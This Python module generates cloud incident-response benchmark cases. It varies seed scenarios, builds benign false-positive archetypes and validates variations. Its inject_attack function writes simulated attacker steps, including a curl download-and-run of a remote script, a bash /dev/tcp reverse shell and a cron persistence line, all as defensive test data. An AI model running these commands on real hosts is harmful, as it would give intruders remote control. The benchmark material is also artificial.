"""Scaling seed scenarios into a benchmark.

Variations come from four registered transforms (renaming, region shift,
timeline shift, technique swap).  False-positive cases come from four benign
archetypes.  Every candidate is dry-run and checked by
:func:`validate_variation` before it is admitted to the corpus.
"""

from __future__ import annotations

import copy
import enum
import json
import random
import re
import subprocess
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Sequence

from . import names
from .cloud import (
    AccountDecl,
    BucketDecl,
    ControlAction,
    EnvironmentSpec,
    InstanceDecl,
    ObjectDecl,
    PrincipalKind,
    PrincipalRef,
    RoleDecl,
    UserDecl,
)
from .core import (
    CATEGORY_ORDER,
    MS_PER_DAY,
    MS_PER_SECOND,
    Category,
    IrsimError,
    SpecError,
    Verdict,
    derive_seed,
    format_ts,
    parse_ts,
    structure,
)
from .scenario import (
    ALERT_TEMPLATES,
    DEFAULT_EXFIL_READS,
    AttackStep,
    CaseBundle,
    GroundTruthError,
    Intent,
    ScenarioExecutionError,
    ScenarioSpec,
    check_structure,
    execute_scenario,
)
from .seeds import Script, anonymous, role, user


class Transform(str, enum.Enum):
    RENAME_RESOURCES = "rename_resources"
    SHIFT_REGION = "shift_region"
    SHIFT_TIMELINE = "shift_timeline"
    SWAP_TECHNIQUE = "swap_technique"


class TransformError(IrsimError, ValueError):
    def __init__(self, transform: Transform | str, reason: str):
        super().__init__(f"{Transform(transform).value}: {reason}")
        self.transform = Transform(transform)


@dataclass
class VariationPlan:
    seed_case: ScenarioSpec
    transforms: list[Transform]
    count: int = 1
    rng_seed: int = 0

    def __post_init__(self) -> None:
        if self.count < 1:
            raise SpecError("count must be at least 1", "count")
        if not self.transforms:
            raise SpecError("transform list must not be empty", "transforms")


# --- rename -------------------------------------------------------------------------

# Step parameters that name a resource created by the step itself.
_CREATED_BY = {"CreateUser": "user", "CreateBucket": "bucket", "RunInstances": "name",
               "CreateSecurityGroup": "group", "PutObject": "key"}
# Fields whose text is structural, never a resource name.
_RENAME_SKIP = {"scenario_id", "step_id", "depends_on", "alert_trigger", "alert_template", "lineage",
                "start_time", "category", "intended_verdict", "intent", "kind", "region"}


def resource_names(spec: ScenarioSpec) -> dict[str, str]:
    """Every resource name in ``spec`` mapped to its kind (user, role, bucket, ...)."""
    env = spec.env_spec
    found: dict[str, str] = {}
    for kind, decls in (("user", env.users), ("role", env.roles), ("bucket", env.buckets),
                        ("group", env.security_groups), ("instance", env.instances)):
        for d in decls:
            found.setdefault(d.name, kind)
    for b in env.buckets:
        for o in b.objects:
            found.setdefault(o.key, "key")
    for s in spec.steps:
        key = _CREATED_BY.get(s.action.name)
        if key and key in s.action.params:
            kind = {"name": "instance"}.get(key, key)
            found.setdefault(str(s.action.params[key]), kind)
    return found


def _alias(kind: str, original: str, rng: random.Random) -> str:
    if kind == "user":
        if "." in original:
            return f"{rng.choice(names.ALIAS_FIRST)}.{rng.choice(names.ALIAS_LAST)}"
        return f"{rng.choice(names.ALIAS_WORDS)}-{rng.choice(names.ALIAS_WORDS)}"
    if kind == "role":
        return f"{rng.choice(names.ALIAS_ROLE_STEMS)}{rng.choice(names.ALIAS_WORDS).title()}Role"
    if kind == "bucket":
        return f"{rng.choice(names.ALIAS_ORGS)}-{rng.choice(names.ALIAS_WORDS)}-{rng.randrange(1000, 10000)}"
    if kind == "group":
        return f"{rng.choice(names.ALIAS_WORDS)}-{rng.choice(names.ALIAS_WORDS)}-fw"
    if kind == "instance":
        return f"{rng.choice(names.ALIAS_WORDS)}-host-{rng.randrange(10, 100)}"
    # object key: fresh directory and stem, original extension
    m = re.search(r"(\.[A-Za-z0-9]+(?:\.gz)?)$", original)
    ext = m.group(1) if m else ""
    return f"{rng.choice(names.ALIAS_WORDS)}/{rng.choice(names.ALIAS_WORDS)}-{rng.randrange(100, 1000)}{ext}"


def _replace_strings(obj: Any, fn: Callable[[str], str], skip: set[str], key: str | None = None) -> Any:
    if key in skip:
        return obj
    if isinstance(obj, str):
        return fn(obj)
    if isinstance(obj, list):
        return [_replace_strings(v, fn, skip, None) for v in obj]
    if isinstance(obj, dict):
        return {k: _replace_strings(v, fn, skip, k) for k, v in obj.items()}
    return obj


def rename_map(spec: ScenarioSpec, rng: random.Random) -> dict[str, str]:
    originals = resource_names(spec)
    taken = set(originals)
    out: dict[str, str] = {}
    for name in sorted(originals):
        for _ in range(500):
            alias = _alias(originals[name], name, rng)
            if alias not in taken:
                break
        else:  # pragma: no cover - vocabulary is large enough in practice
            raise TransformError(Transform.RENAME_RESOURCES, f"could not find an alias for {name!r}")
        taken.add(alias)
        out[name] = alias
    return out


def rename_resources(spec: ScenarioSpec, rng: random.Random) -> ScenarioSpec:
    """Replace every resource name consistently; the step graph is untouched."""
    mapping = rename_map(spec, rng)
    if not mapping:
        raise TransformError(Transform.RENAME_RESOURCES, "scenario declares no resources")
    pattern = re.compile(
        r"(?<![\w.-])(" + "|".join(re.escape(n) for n in sorted(mapping, key=len, reverse=True)) + r")(?![\w-]|\.\w)"
    )
    data = _replace_strings(spec.to_dict(), lambda s: pattern.sub(lambda m: mapping[m.group(1)], s), _RENAME_SKIP)
    return ScenarioSpec.from_dict(data)


# --- region / timeline ----------------------------------------------------------------


def shift_region(spec: ScenarioSpec, rng: random.Random) -> ScenarioSpec:
    choices = [r for r in names.REGIONS if r != spec.env_spec.region]
    out = copy.deepcopy(spec)
    out.env_spec.region = rng.choice(choices)
    return out


# Timeline shifts keep the scenario well after environment provisioning.
MAX_SHIFT_DAYS = 200


def shift_timeline(spec: ScenarioSpec, delta_ms: int) -> ScenarioSpec:
    out = copy.deepcopy(spec)
    out.start_time = format_ts(parse_ts(spec.start_time) + delta_ms)
    return out


# --- technique swap -----------------------------------------------------------------


@dataclass(frozen=True)
class Swap:
    a: str
    b: str
    convert: Callable[[str, dict], dict | None] | None = None  # None result: step not swappable


def _policy_acl(name: str, params: dict) -> dict | None:
    if name == "PutBucketPolicy":
        if not params.get("public") or params.get("principal_accounts"):
            return None
        return {"bucket": params["bucket"], "acl": "public-read"}
    if params.get("acl") != "public-read":
        return None
    return {"bucket": params["bucket"], "public": True}


SWAP_REGISTRY: dict[Category, tuple[Swap, ...]] = {
    Category.BRUTE_FORCE: (
        Swap("ListUsers", "GetAccountAuthorizationDetails"),
        Swap("ListObjects", "ListObjectsV2"),
        Swap("GetObject", "SelectObjectContent"),
    ),
    Category.UNAUTHORIZED_ACCESS: (
        Swap("GetObject", "SelectObjectContent"),
        Swap("ListObjects", "ListObjectsV2"),
        Swap("ListUsers", "GetAccountAuthorizationDetails"),
    ),
    Category.MISCONFIGURATION: (
        Swap("PutBucketPolicy", "PutBucketAcl", _policy_acl),
        Swap("ListObjects", "ListObjectsV2"),
        Swap("GetObject", "SelectObjectContent"),
    ),
    Category.MALICIOUS_FILE_EXECUTION: (
        Swap("SendCommand", "CreateAssociation"),
        Swap("ListUsers", "GetAccountAuthorizationDetails"),
    ),
}


def _swapped(swap: Swap, step: AttackStep) -> AttackStep | None:
    name = step.action.name
    if name not in (swap.a, swap.b):
        return None
    other = swap.b if name == swap.a else swap.a
    params = dict(step.action.params)
    if swap.convert is not None:
        params = swap.convert(name, params)
        if params is None:
            return None
    return AttackStep(step.step_id, step.actor, ControlAction(other, params), step.offset, list(step.depends_on), step.intent)


def applicable_swaps(spec: ScenarioSpec) -> list[Swap]:
    return [sw for sw in SWAP_REGISTRY[Category(spec.category)] if any(_swapped(sw, s) for s in spec.steps)]


def swap_technique(spec: ScenarioSpec, rng: random.Random) -> ScenarioSpec:
    """Replace one family of actions by its registered equivalent throughout the scenario."""
    options = applicable_swaps(spec)
    if not options:
        raise TransformError(Transform.SWAP_TECHNIQUE, f"no registered alternative for any step of {spec.scenario_id!r}")
    swap = rng.choice(options)
    out = copy.deepcopy(spec)
    out.steps = [_swapped(swap, s) or s for s in out.steps]
    return out


def apply_transform(spec: ScenarioSpec, t: Transform, rng: random.Random) -> ScenarioSpec:
    t = Transform(t)
    if t is Transform.RENAME_RESOURCES:
        return rename_resources(spec, rng)
    if t is Transform.SHIFT_REGION:
        return shift_region(spec, rng)
    if t is Transform.SHIFT_TIMELINE:
        return shift_timeline(spec, rng.randrange(-MAX_SHIFT_DAYS, MAX_SHIFT_DAYS + 1) * MS_PER_DAY + rng.randrange(0, MS_PER_DAY))
    return swap_technique(spec, rng)


def generate_variations(plan: VariationPlan) -> list[ScenarioSpec]:
    seed = plan.seed_case
    transforms = [Transform(t) for t in plan.transforms]
    if Transform.SWAP_TECHNIQUE in transforms and not applicable_swaps(seed):
        raise TransformError(Transform.SWAP_TECHNIQUE, f"no registered alternative for any step of {seed.scenario_id!r}")
    out = []
    for i in range(plan.count):
        rng = random.Random(derive_seed(plan.rng_seed, seed.scenario_id, i))
        spec = seed
        for t in transforms:
            spec = apply_transform(spec, t, rng)
        spec = copy.deepcopy(spec)
        spec.scenario_id = f"{seed.scenario_id}-v{i + 1:03d}"
        spec.lineage = list(seed.lineage) + [t.value for t in transforms]
        out.append(spec)
    return out


@dataclass
class ExternalBatch:
    accepted: list[ScenarioSpec]
    rejected: list[tuple[str, ValidationResult]]


def external_variations(command: Sequence[str], seed_case: ScenarioSpec, count: int, *, rng_seed: int = 0,
                        timeout_s: float = 120.0) -> ExternalBatch:
    """Ask an outside program for variations of ``seed_case`` and keep the ones that validate.

    The program receives one JSON object on stdin (``seed``, ``count``,
    ``rng_seed``) and answers with one ScenarioSpec document per stdout line.
    Unparseable lines and candidates that change category or verdict are
    rejected like any other invalid variation; they never raise.
    """
    request = json.dumps({"seed": seed_case.to_dict(), "count": count, "rng_seed": rng_seed})
    proc = subprocess.run(list(command), input=request, capture_output=True, text=True, timeout=timeout_s)
    if proc.returncode != 0:
        raise IrsimError(f"variation generator exited with code {proc.returncode}: {proc.stderr.strip()[-500:]}")
    batch = ExternalBatch([], [])
    for lineno, line in enumerate(proc.stdout.splitlines(), 1):
        if not line.strip():
            continue
        label = f"line {lineno}"
        try:
            spec = ScenarioSpec.from_dict(json.loads(line))
        except (ValueError, TypeError, KeyError, SpecError) as exc:
            batch.rejected.append((label, ValidationResult(False, [RejectReason.EXECUTION_FAILED], f"unparseable: {exc}")))
            continue
        label = spec.scenario_id
        if spec.category != seed_case.category or Verdict(spec.intended_verdict) != Verdict(seed_case.intended_verdict):
            batch.rejected.append((label, ValidationResult(False, [RejectReason.VERDICT_MISMATCH],
                                                           "category or intended verdict differs from the seed")))
            continue
        result = validate_variation(spec, seed=derive_seed(rng_seed, spec.scenario_id))
        if result:
            spec.lineage = list(seed_case.lineage) + ["external"]
            batch.accepted.append(spec)
        else:
            batch.rejected.append((label, result))
    return batch


# --- false-positive archetypes -------------------------------------------------------


class ArchetypeKind(str, enum.Enum):
    ADMIN_ACTIVITY = "admin_activity"
    INTENTIONALLY_PUBLIC = "intentionally_public"
    CICD_PIPELINE = "cicd_pipeline"
    PARTNER_CROSS_ACCOUNT = "partner_cross_account"


@dataclass
class FpArchetype:
    kind: ArchetypeKind
    parameters: dict[str, str] = field(default_factory=dict)


# Categories each archetype can be staged in; the first is the default.
ARCHETYPE_CATEGORIES: dict[ArchetypeKind, tuple[Category, ...]] = {
    ArchetypeKind.ADMIN_ACTIVITY: (Category.BRUTE_FORCE, Category.MALICIOUS_FILE_EXECUTION),
    ArchetypeKind.INTENTIONALLY_PUBLIC: (Category.MISCONFIGURATION,),
    ArchetypeKind.CICD_PIPELINE: (Category.MALICIOUS_FILE_EXECUTION, Category.UNAUTHORIZED_ACCESS, Category.MISCONFIGURATION),
    ArchetypeKind.PARTNER_CROSS_ACCOUNT: (Category.UNAUTHORIZED_ACCESS,),
}

# Archetype rotation used when building a benchmark.
CATEGORY_ARCHETYPES: dict[Category, tuple[ArchetypeKind, ...]] = {
    Category.BRUTE_FORCE: (ArchetypeKind.ADMIN_ACTIVITY,),
    Category.UNAUTHORIZED_ACCESS: (ArchetypeKind.PARTNER_CROSS_ACCOUNT, ArchetypeKind.CICD_PIPELINE),
    Category.MISCONFIGURATION: (ArchetypeKind.INTENTIONALLY_PUBLIC, ArchetypeKind.CICD_PIPELINE),
    Category.MALICIOUS_FILE_EXECUTION: (ArchetypeKind.CICD_PIPELINE, ArchetypeKind.ADMIN_ACTIVITY),
}

BEN = Intent.BENIGN


class _Namer:
    def __init__(self, rng: random.Random, taken: set[str] | None = None):
        self.rng = rng
        self.taken = set(taken or ())

    def __call__(self, make: Callable[[random.Random], str]) -> str:
        return names.unique(self.rng, make, self.taken)

    def person(self) -> str:
        return self(names.person_name)

    def service(self, stem: str) -> str:
        return self(lambda r: f"{stem}-{r.choice(names.ALIAS_WORDS)}")

    def role(self, suffix: str) -> str:
        return self(lambda r: f"{r.choice(names.ROLE_STEMS)}{suffix}")

    def bucket(self, stem: str) -> str:
        return self(lambda r: f"{r.choice(names.COMPANY)}-{stem}-{r.randrange(1000, 10000)}")

    def host(self) -> str:
        return self(names.host_name)


def _ticket(rng: random.Random) -> str:
    return f"CHG-{rng.randrange(10000, 100000)}"


def _password(rng: random.Random) -> str:
    return f"{rng.choice(names.ALIAS_WORDS).title()}-{rng.choice(names.ALIAS_WORDS)}-{rng.randrange(10, 100)}"


def _fp_spec(sid: str, category: Category, env: EnvironmentSpec, s: Script, trigger: list[str], kind: ArchetypeKind) -> ScenarioSpec:
    return ScenarioSpec(sid, category, env, s.steps, ALERT_TEMPLATES[category], trigger, Verdict.FP,
                        lineage=[f"archetype:{kind.value}"])


def _fp_admin_bf(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    admin, helpdesk = n.person(), n.service("helpdesk")
    old = _password(rng)
    env = EnvironmentSpec(Category.BRUTE_FORCE, users=[
        UserDecl(admin, policies=["PowerUserAccess"], password=old, mfa=True),
        UserDecl(helpdesk, policies=["HelpdeskPasswordReset"]),
    ])
    ip = names.corporate_ip(rng)
    s = Script("b")
    fails = [s.add(i * rng.randrange(12, 45), user(admin, ip), "ConsoleLogin", {"password": _password(rng)}, intent=BEN)
             for i in range(rng.randrange(6, 16))]
    new = _password(rng)
    reset = s.add(900 + rng.randrange(0, 600), user(helpdesk, names.corporate_ip(rng)), "UpdateLoginProfile",
                  {"user": admin, "password": new, "reset_required": True}, after=[fails[-1]], intent=BEN)
    ok = s.add(1800 + rng.randrange(0, 600), user(admin, ip), "ConsoleLogin", {"password": new}, after=[reset], intent=BEN)
    s.add(1900 + rng.randrange(0, 600), user(admin, ip), "DescribeInstances", after=[ok], intent=BEN)
    return _fp_spec(sid, Category.BRUTE_FORCE, env, s, fails, ArchetypeKind.ADMIN_ACTIVITY)


def _fp_admin_mfe(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    admin, host = n.person(), n.host()
    agent = n.role("InstanceRole")
    env = EnvironmentSpec(Category.MALICIOUS_FILE_EXECUTION, users=[UserDecl(admin, policies=["AmazonSSMFullAccess"])],
                          roles=[RoleDecl(agent, policies=["AmazonSSMManagedInstanceCore"])],
                          instances=[InstanceDecl(host, profile=agent)])
    ip = names.corporate_ip(rng)
    s = Script("b")
    look = s.add(0, user(admin, ip), "DescribeInstances", intent=BEN)
    cmd = s.add(120 + rng.randrange(0, 300), user(admin, ip), "SendCommand", {
        "instance": host, "comment": f"{_ticket(rng)} monthly security patching",
        "commands": ["sudo yum -y update --security", "sudo needs-restarting -r || true"]}, after=[look], intent=BEN)
    return _fp_spec(sid, Category.MALICIOUS_FILE_EXECUTION, env, s, [cmd], ArchetypeKind.ADMIN_ACTIVITY)


def _fp_public_site(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    admin, bucket = n.person(), n.bucket("public-site")
    assets = ["site/index.html", "site/assets/app.css", "site/assets/app.js", "site/img/logo.svg", "site/robots.txt"]
    env = EnvironmentSpec(Category.MISCONFIGURATION, users=[UserDecl(admin, policies=["AmazonS3FullAccess"])],
                          buckets=[BucketDecl(bucket, objects=[ObjectDecl(k, rng.randrange(800, 90_000)) for k in assets])])
    ip = names.corporate_ip(rng)
    s = Script("b")
    tag = s.add(0, user(admin, ip), "PutBucketTagging",
                {"bucket": bucket, "tags": {"change-ticket": _ticket(rng), "classification": "public-website"}}, intent=BEN)
    pub = s.add(60 + rng.randrange(0, 240), user(admin, ip), "PutBucketPolicy", {"bucket": bucket, "public": True},
                after=[tag], intent=BEN)
    for i in range(rng.randrange(3, 7)):
        s.add(3600 + 400 * i, anonymous(names.external_ip(rng)), "GetObject",
              {"bucket": bucket, "key": rng.choice(assets)}, after=[pub], intent=BEN)
    return _fp_spec(sid, Category.MISCONFIGURATION, env, s, [pub], ArchetypeKind.INTENTIONALLY_PUBLIC)


def _pipeline_env(rng: random.Random, n: _Namer, category: Category, policies: list[str]) -> tuple[EnvironmentSpec, str, str, str]:
    builder, deploy, artifacts = n.service("ci-runner"), n.role("DeployRole"), n.bucket("artifacts")
    env = EnvironmentSpec(category,
                          users=[UserDecl(builder, policies=["ReadOnlyAccess"])],
                          roles=[RoleDecl(deploy, policies=policies, trusted=[PrincipalRef(PrincipalKind.USER, builder)])],
                          buckets=[BucketDecl(artifacts, objects=[ObjectDecl("releases/manifest.json", 2_048)])])
    return env, builder, deploy, artifacts


def _fp_pipeline_mfe(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    env, builder, deploy, artifacts = _pipeline_env(rng, n, Category.MALICIOUS_FILE_EXECUTION,
                                                    ["AmazonS3FullAccess", "AmazonSSMFullAccess"])
    agent, host = n.role("InstanceRole"), n.host()
    env.roles.append(RoleDecl(agent, policies=["AmazonSSMManagedInstanceCore"]))
    env.instances.append(InstanceDecl(host, profile=agent))
    ip = names.external_ip(rng)
    version = f"v{rng.randrange(1, 9)}.{rng.randrange(0, 30)}.{rng.randrange(0, 10)}"
    key = f"releases/{version}/deploy.sh"
    s = Script("b")
    hop = s.add(0, user(builder, ip), "AssumeRole", {"role": deploy, "session_name": f"pipeline-{rng.randrange(1000, 9999)}"}, intent=BEN)
    put = s.add(30, role(deploy, ip), "PutObject", {"bucket": artifacts, "key": key, "size": rng.randrange(900, 9000)},
                after=[hop], intent=BEN)
    cmd = s.add(60 + rng.randrange(0, 60), role(deploy, ip), "SendCommand", {
        "instance": host, "comment": f"pipeline run {rng.randrange(100, 5000)} deploy {version}",
        "commands": [f"aws s3 cp s3://{artifacts}/{key} /tmp/deploy.sh", "bash /tmp/deploy.sh"]}, after=[put], intent=BEN)
    return _fp_spec(sid, Category.MALICIOUS_FILE_EXECUTION, env, s, [cmd], ArchetypeKind.CICD_PIPELINE)


def _fp_pipeline_ua(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    env, builder, deploy, artifacts = _pipeline_env(rng, n, Category.UNAUTHORIZED_ACCESS, ["AmazonS3FullAccess"])
    ip = names.external_ip(rng)
    s = Script("b")
    hop = s.add(0, user(builder, ip), "AssumeRole", {"role": deploy, "session_name": f"pipeline-{rng.randrange(1000, 9999)}"}, intent=BEN)
    lo = s.add(20, role(deploy, ip), "ListObjectsV2", {"bucket": artifacts, "prefix": "releases/"}, after=[hop], intent=BEN)
    for i in range(rng.randrange(1, 4)):
        s.add(40 + 10 * i, role(deploy, ip), "PutObject",
              {"bucket": artifacts, "key": f"releases/build-{rng.randrange(1000, 9999)}.zip", "size": rng.randrange(10**5, 10**7)},
              after=[lo], intent=BEN)
    return _fp_spec(sid, Category.UNAUTHORIZED_ACCESS, env, s, [hop], ArchetypeKind.CICD_PIPELINE)


def _fp_pipeline_mis(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    env, builder, deploy, artifacts = _pipeline_env(rng, n, Category.MISCONFIGURATION, ["AmazonS3FullAccess"])
    downloads = n.bucket("downloads")
    env.buckets.append(BucketDecl(downloads, objects=[ObjectDecl("installers/setup.exe", 4_000_000)]))
    ip = names.external_ip(rng)
    s = Script("b")
    hop = s.add(0, user(builder, ip), "AssumeRole", {"role": deploy, "session_name": f"release-{rng.randrange(1000, 9999)}"}, intent=BEN)
    put = s.add(30, role(deploy, ip), "PutObject", {"bucket": downloads, "key": f"installers/setup-{rng.randrange(100, 999)}.exe",
                                                  "size": rng.randrange(10**6, 10**7)}, after=[hop], intent=BEN)
    acl = s.add(45, role(deploy, ip), "PutBucketAcl", {"bucket": downloads, "acl": "public-read"}, after=[put], intent=BEN)
    return _fp_spec(sid, Category.MISCONFIGURATION, env, s, [acl], ArchetypeKind.CICD_PIPELINE)


def _fp_partner(rng: random.Random, sid: str) -> ScenarioSpec:
    n = _Namer(rng)
    partner_user, exchange_role, bucket = n.service("partner-sync"), n.role("PartnerAccessRole"), n.bucket("partner-exchange")
    env = EnvironmentSpec(
        Category.UNAUTHORIZED_ACCESS,
        accounts=[AccountDecl("partner", external=True)],
        users=[UserDecl(partner_user, account="partner", policies=["ReadOnlyAccess"])],
        roles=[RoleDecl(exchange_role, policies=["AmazonS3ReadOnlyAccess"],
                        trusted=[PrincipalRef(PrincipalKind.USER, partner_user, "partner")],
                        tags={"owner": "partnerships", "integration": "data-exchange"})],
        buckets=[BucketDecl(bucket, objects=[ObjectDecl(f"outbound/feed-{i:02d}.csv", 50_000 + i) for i in range(8)])],
    )
    ip = names.external_ip(rng)
    s = Script("b")
    hop = s.add(0, user(partner_user, ip, "partner"), "AssumeRole",
                {"role": exchange_role, "session_name": "exchange", "external_id": f"ext-{rng.randrange(10**7, 10**8)}"}, intent=BEN)
    r = role(exchange_role, ip)
    lo = s.add(15, r, "ListObjectsV2", {"bucket": bucket, "prefix": "outbound/"}, after=[hop], intent=BEN)
    for i in range(rng.randrange(2, 6)):
        s.add(30 + 5 * i, r, "GetObject", {"bucket": bucket, "key": f"outbound/feed-{i:02d}.csv"}, after=[lo], intent=BEN)
    return _fp_spec(sid, Category.UNAUTHORIZED_ACCESS, env, s, [hop], ArchetypeKind.PARTNER_CROSS_ACCOUNT)


_FP_BUILDERS: dict[tuple[ArchetypeKind, Category], Callable[[random.Random, str], ScenarioSpec]] = {
    (ArchetypeKind.ADMIN_ACTIVITY, Category.BRUTE_FORCE): _fp_admin_bf,
    (ArchetypeKind.ADMIN_ACTIVITY, Category.MALICIOUS_FILE_EXECUTION): _fp_admin_mfe,
    (ArchetypeKind.INTENTIONALLY_PUBLIC, Category.MISCONFIGURATION): _fp_public_site,
    (ArchetypeKind.CICD_PIPELINE, Category.MALICIOUS_FILE_EXECUTION): _fp_pipeline_mfe,
    (ArchetypeKind.CICD_PIPELINE, Category.UNAUTHORIZED_ACCESS): _fp_pipeline_ua,
    (ArchetypeKind.CICD_PIPELINE, Category.MISCONFIGURATION): _fp_pipeline_mis,
    (ArchetypeKind.PARTNER_CROSS_ACCOUNT, Category.UNAUTHORIZED_ACCESS): _fp_partner,
}


def generate_false_positive(archetype: FpArchetype, seed: int) -> ScenarioSpec:
    """A benign scenario that still fires its category's alert."""
    kind = ArchetypeKind(archetype.kind)
    cat_text = archetype.parameters.get("category")
    category = Category(cat_text) if cat_text else ARCHETYPE_CATEGORIES[kind][0]
    builder = _FP_BUILDERS.get((kind, category))
    if builder is None:
        raise SpecError(f"archetype {kind.value} cannot be staged as {category.value}", "parameters.category")
    sid = archetype.parameters.get("scenario_id", f"{kind.value}-{seed & 0xFFFFFFFF:08x}")
    return builder(random.Random(derive_seed(seed, kind.value, category.value)), sid)


# --- attack injection (true-positive conversion) --------------------------------------


def _declared(spec: ScenarioSpec) -> set[str]:
    return set(resource_names(spec))


def inject_attack(spec: ScenarioSpec, rng: random.Random) -> ScenarioSpec:
    """Append a category-standard malicious sequence and point the alert at it."""
    out = copy.deepcopy(spec)
    cat = Category(out.category)
    env = out.env_spec
    n = _Namer(rng, _declared(out))
    start = max(s.offset for s in out.steps) // MS_PER_SECOND + 600 + rng.randrange(0, 1800)
    s = Script("x")
    ip = names.external_ip(rng)
    if cat is Category.BRUTE_FORCE:
        victim, backdoor, pw = n.person(), n.service("svc"), _password(rng)
        env.users.append(UserDecl(victim, policies=["PowerUserAccess", "IAMFullAccess"], password=pw))
        fails = [s.add(start + 9 * i, user(victim, ip), "ConsoleLogin", {"password": _password(rng)}) for i in range(rng.randrange(10, 21))]
        login = s.add(start + 400, user(victim, ip), "ConsoleLogin", {"password": pw}, after=[fails[-1]])
        mk = s.add(start + 460, user(victim, ip), "CreateUser", {"user": backdoor}, after=[login])
        s.add(start + 470, user(victim, ip), "CreateAccessKey", {"user": backdoor}, after=[mk])
        trigger = fails
    elif cat is Category.UNAUTHORIZED_ACCESS:
        leaked, target, bucket = n.service("svc"), n.role("AccessRole"), n.bucket("records")
        env.users.append(UserDecl(leaked, policies=["ReadOnlyAccess"]))
        env.roles.append(RoleDecl(target, policies=["AmazonS3ReadOnlyAccess"], trusted=[PrincipalRef(PrincipalKind.USER, leaked)]))
        env.buckets.append(BucketDecl(bucket, objects=[ObjectDecl(f"records/batch-{i:03d}.csv", 70_000 + i) for i in range(12)]))
        recon = s.add(start - 120, user(leaked, ip), "ListRoles")
        hop = s.add(start, user(leaked, ip), "AssumeRole", {"role": target, "session_name": f"s{rng.randrange(100, 999)}"},
                    after=[recon])
        lb = s.add(start + 60, role(target, ip), "ListBuckets", after=[hop])
        for i in range(rng.randrange(3, 12)):
            s.add(start + 90 + 6 * i, role(target, ip), "GetObject", {"bucket": bucket, "key": f"records/batch-{i:03d}.csv"}, after=[lb])
        trigger = [hop]
    elif cat is Category.MISCONFIGURATION:
        insider, bucket = n.service("svc"), n.bucket("private")
        env.users.append(UserDecl(insider, policies=["AmazonS3FullAccess"]))
        env.buckets.append(BucketDecl(bucket, objects=[ObjectDecl(f"private/doc-{i:03d}.pdf", 30_000 + i) for i in range(6)]))
        look = s.add(start - 60, user(insider, ip), "ListBuckets")
        pub = s.add(start, user(insider, ip), "PutBucketPolicy", {"bucket": bucket, "public": True}, after=[look])
        reader = names.external_ip(rng)
        for i in range(rng.randrange(2, 6)):
            s.add(start + 1800 + 20 * i, anonymous(reader), "GetObject", {"bucket": bucket, "key": f"private/doc-{i:03d}.pdf"}, after=[pub])
        trigger = [pub]
    else:
        operator, agent, host = n.service("svc"), n.role("InstanceRole"), n.host()
        env.users.append(UserDecl(operator, policies=["AmazonSSMFullAccess"]))
        env.roles.append(RoleDecl(agent, policies=["AmazonSSMManagedInstanceCore"]))
        env.instances.append(InstanceDecl(host, profile=agent))
        port = rng.choice([4444, 8443, 9001, 1337])
        survey = s.add(start - 90, user(operator, ip), "DescribeInstances")
        drop = s.add(start, user(operator, ip), "SendCommand", {"instance": host, "commands": [
            f"curl -s http://{ip}/p.sh -o /tmp/.p.sh", "sh /tmp/.p.sh"]}, after=[survey])
        shell = s.add(start + 120, user(operator, ip), "SendCommand", {"instance": host, "commands": [
            f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'"]}, after=[drop])
        s.add(start + 200, user(operator, ip), "SendCommand", {"instance": host, "commands": [
            "(crontab -l; echo '*/10 * * * * sh /tmp/.p.sh') | crontab -"]}, after=[shell])
        trigger = [drop]
    out.steps.extend(s.steps)
    out.alert_trigger = trigger
    out.intended_verdict = Verdict.TP
    out.lineage = list(out.lineage) + ["inject_attack"]
    return out


# --- validation ---------------------------------------------------------------------


class RejectReason(str, enum.Enum):
    CYCLIC = "cyclic_dependencies"
    IMPOSSIBLE_ORDERING = "impossible_ordering"
    EXECUTION_FAILED = "execution_failed"
    VERDICT_MISMATCH = "verdict_mismatch"
    INSUFFICIENT_ARTIFACTS = "insufficient_forensic_artifacts"


@dataclass
class ValidationResult:
    accepted: bool
    reasons: list[RejectReason] = field(default_factory=list)
    detail: str = ""

    def __bool__(self) -> bool:
        return self.accepted


DEFAULT_MIN_TP_FINDINGS = 3


def assess_bundle(spec: ScenarioSpec, bundle: CaseBundle, min_tp_findings: int = DEFAULT_MIN_TP_FINDINGS) -> ValidationResult:
    gt = bundle.ground_truth
    if gt.verdict != Verdict(spec.intended_verdict):
        return ValidationResult(False, [RejectReason.VERDICT_MISMATCH], f"extracted {gt.verdict.value}")
    evidenced = [f for f in gt.findings if f.evidence and f.required_tools]
    if gt.verdict is Verdict.TP:
        if len(evidenced) < min_tp_findings or not gt.novel_findings:
            return ValidationResult(False, [RejectReason.INSUFFICIENT_ARTIFACTS],
                                    f"{len(evidenced)} evidenced findings, {len(gt.novel_findings)} novel")
    elif not any(f.rule.startswith("benign_") and f.evidence for f in gt.findings):
        return ValidationResult(False, [RejectReason.INSUFFICIENT_ARTIFACTS], "no benign-explanation finding")
    return ValidationResult(True)


def validate_variation(spec: ScenarioSpec, *, seed: int = 0, min_tp_findings: int = DEFAULT_MIN_TP_FINDINGS) -> ValidationResult:
    """Structural checks plus a dry run; reject unrealistic or evidence-poor scenarios."""
    try:
        check_structure(spec)
    except SpecError as exc:
        reason = RejectReason.CYCLIC if "cycle" in str(exc) else RejectReason.IMPOSSIBLE_ORDERING
        return ValidationResult(False, [reason], str(exc))
    try:
        bundle = execute_scenario(spec, seed, background=False)
    except (ScenarioExecutionError, GroundTruthError, SpecError) as exc:
        return ValidationResult(False, [RejectReason.EXECUTION_FAILED], str(exc))
    return assess_bundle(spec, bundle, min_tp_findings)


def drop_steps(spec: ScenarioSpec, rng: random.Random, fraction: float) -> ScenarioSpec:
    """Fuzzing helper: delete a random share of steps, rewiring dependents to the deleted steps' parents."""
    out = copy.deepcopy(spec)
    doomed = {s.step_id for s in out.steps if rng.random() < fraction}
    parents = {s.step_id: list(s.depends_on) for s in out.steps}

    def live(dep: str) -> list[str]:
        if dep not in doomed:
            return [dep]
        return [x for p in parents.get(dep, []) for x in live(p)]

    kept = []
    for s in out.steps:
        if s.step_id in doomed:
            continue
        s.depends_on = list(dict.fromkeys(x for d in s.depends_on for x in live(d)))
        kept.append(s)
    out.steps = kept
